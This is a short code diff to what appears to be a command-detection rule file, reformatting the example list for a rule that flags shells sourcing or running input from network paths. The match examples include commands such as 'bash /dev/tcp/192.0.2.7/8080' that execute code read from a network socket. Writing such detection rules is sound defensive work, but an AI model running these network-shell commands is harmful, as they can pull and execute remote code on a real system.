@@ -451,8 +451,8 @@ RULES = [
         "match": {"cmd": ("source", ".", "bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "busybox"),
                   "targets": {"of": "operands", "region": "network"}},
         "examples": {
-            "match": ["source /dev/tcp/127.0.0.1/9000", ". /dev/tcp/10.1.2.3/80", "bash /dev/tcp/192.0.2.7/8080",
-                      "sh /dev/udp/198.51.100.4/53"],
+            "match": ["source /dev/tcp/127.0.0.1/9000", ". /dev/tcp/10.1.2.3/80",
+                      "bash /dev/tcp/192.0.2.7/8080", "sh /dev/udp/198.51.100.4/53"],
             "no_match": ["source .venv/bin/activate", "bash scripts/build.sh", ". ./env.sh",
                          "timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/5432'"],
         },
